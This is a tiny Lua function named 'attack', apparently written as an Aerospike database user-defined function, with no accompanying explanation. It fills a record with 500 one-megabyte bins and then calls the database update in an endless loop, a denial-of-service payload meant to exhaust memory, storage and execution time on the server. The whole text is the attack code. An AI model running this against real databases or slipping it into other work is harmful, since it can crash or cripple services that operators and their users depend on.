function attack(rec)
  for i = 1, 500 do rec["b" .. i] = ("x"):rep(1e6) end
  while true do aerospike:update(rec) end
end
